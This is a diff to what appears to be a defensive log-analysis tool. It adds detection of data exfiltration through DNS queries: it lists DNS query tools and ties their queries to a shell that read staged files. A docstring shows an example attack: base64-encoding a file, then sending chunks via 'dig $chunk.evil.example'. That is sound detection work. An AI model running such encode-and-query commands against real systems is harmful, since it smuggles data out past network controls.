@@ -46,6 +46,8 @@ STAGED_UPLOAD_MINUTES = 5  # an exchange over within these minutes of its first,
 C2_MIN_SHARE = 0.5  # of the subject's traffic to non-internal addresses
 CHECK_IN_SECONDS = 2  # event-seconds of sending in a minute that a check-in, not an upload, takes
 BULK_SECONDS_PER_MINUTE = 6  # a one-way run this dense (a send every 10 s or more often) is a transfer
+# the tools that ask a name server a question: what they send leaves through any resolver
+DNS_QUERY_TOOLS = frozenset({"nslookup", "nslookup.exe", "dig", "host", "drill"})
 EXFIL_MIN_SECONDS = 5  # data seen leaving in fewer distinct seconds is not called exfiltration (unless archived first)
 # knowledge-base categories of files that configure the system rather than run as a tool
 CONFIGURATION_FILES = frozenset({"persistence location", "credential store"})
@@ -6719,6 +6721,31 @@ def _copy_transports(view: LogView, senders: set[str]) -> dict[str, set[str]]:
     return found
 
 
+def _argument_carriers(view: LogView, reading: np.ndarray, staged: set[str], sends: np.ndarray) -> dict[str, set[str]]:
+    """Each process behind ``sends`` that a shell, script host or admin shell started in or
+    after the minute that shell read a file of ``staged`` (collected data staged, encoded or
+    split: ``base64 docs.csv > .s1``, then ``dig $chunk.evil.example`` per line) -> those
+    shells: the data went out in the started program's arguments (DNS queries, a ping's
+    pattern), which the log does not record; the shell's read of it is the sender's."""
+    if not staged:
+        return {}
+    desc = view.desc
+    shell_reads = reading & view.desc_in("object_name", staged)
+    shell_reads &= view.desc_where("subject_name", lambda n: process_category(n) in OPERATOR_TOOLS, shell_reads)
+    if not shell_reads.any():
+        return {}
+    first_read = _first_minute_by_subject(view, shell_reads)
+    senders = view.values("subject_name", sends) - PLACEHOLDERS
+    starts = view.program_starts & view.desc_in("subject_name", set(first_read)) & view.desc_in("object_name", senders)
+    found: dict[str, set[str]] = {}
+    for position in view.rows_of(starts).tolist():
+        code = view._codes[position]
+        shell, child = desc["subject_name"][code], desc["object_name"][code]
+        if child != shell and int(view.minutes[position]) >= first_read[shell]:
+            found.setdefault(child, set()).add(shell)
+    return found
+
+
 def _relayed_archives(view: LogView, channel: str, readers: set[str], starts: np.ndarray, reads: np.ndarray, writes: np.ndarray, user_data: Callable[[str], bool]) -> set[str]:
     """The files ``readers`` (``channel`` and the copy clients it is the transport of) read
     that a program ``channel`` started, or one started beside them by the shell or script
@@ -6919,12 +6946,19 @@ def exfiltration(view: LogView) -> list[StageEvidence]:
     local = this_host_addresses(view)
     sends = (desc["object_kind"] == "flow") & (desc["event"] == "network_out") & ~view.desc_in("object_name", PLACEHOLDERS | local)
     sends &= view.present
+    every_send = sends.copy()
     sends &= view.desc_where("object_name", lambda n: view.address_class(n) in ("public", "unknown") and n not in public_resolvers(), sends)
     # a host in the same /16 as this host's own address is one of the site's, declared or not
     # (as Command and Control and Lateral Movement read it): a copy to the site's file server
     # leaves nothing
     if local and sends.any():
         sends &= ~view.desc_in("object_name", neighbours_of_this_host(view, view.values("object_name", sends)))
+    # a DNS query tool's questions leave through whichever resolver it asks, the site's or a
+    # public one, which forwards them out: kept while the tool may carry staged data in them
+    # (``_argument_carriers``), dropped below where it carries none
+    resolver_queries = every_send & ~sends & view.desc_where("subject_name", lambda n: n.casefold() in DNS_QUERY_TOOLS, every_send)
+    resolver_queries &= view.desc_where("object_name", lambda n: view.address_class(n) not in ("loopback", "local"), resolver_queries)
+    sends |= resolver_queries
     from ..grounding.semantic import is_web_script
 
     def user_data(name: str) -> bool:
@@ -7083,6 +7117,13 @@ def exfiltration(view: LogView) -> list[StageEvidence]:
     # a copy's transport (scp's ssh) sends what the copy client read: its reads are the
     # sender's
     transports = _copy_transports(view, view.values("subject_name", sends & sender))
+    # (and a program a shell started after it read staged data, its data in the arguments:
+    # dig's queries)
+    by_arguments = _argument_carriers(view, reading, written_by_collectors, sends & sender)
+    for carrier, shells in by_arguments.items():
+        transports.setdefault(carrier, set()).update(shells)
+    if resolver_queries.any():
+        sends &= ~(resolver_queries & ~view.desc_in("subject_name", set(by_arguments)))
     copiers = {c for clients in transports.values() for c in clients}
     if copiers:
         sender = sender | view.desc_in("subject_name", copiers)
@@ -7192,8 +7233,14 @@ def exfiltration(view: LogView) -> list[StageEvidence]:
     if packed_sent:
         reason += f" {_names(packed_sent)} wrote {_names(view.values('object_name', writes & view.present & view.desc_in('subject_name', packed_sent) & view.desc_in('object_name', own_archives)))} of what it read before it sent: an archive packed and carried off by one process."
     carriers = {t for t, clients in transports.items() if clients & readers} & view.values("subject_name", sends)
-    if carriers:
-        reason += f" {_names(carriers)} sent it, the transport {_names(set().union(*(transports[t] for t in carriers)))} started for its copy or message."
+    argued = {t for t in carriers if by_arguments.get(t, set()) & readers}
+    if carriers - argued:
+        reason += f" {_names(carriers - argued)} sent it, the transport {_names(set().union(*(transports[t] for t in carriers - argued)))} started for its copy or message."
+    if argued:
+        reason += (
+            f" {_names(argued)} sent it, started by {_names(set().union(*(by_arguments[t] for t in argued)))} after that read: "
+            "the data in the started program's arguments (its queries), which the log does not record."
+        )
     fed_senders = set(piped) & view.values("subject_name", sends)
     if fed_senders:
         reason += f" {_names(fed_senders)} sent what {_names(set().union(*(piped[s] for s in fed_senders)))} wrote into a pipe it read, started by the same process: a shell pipeline."
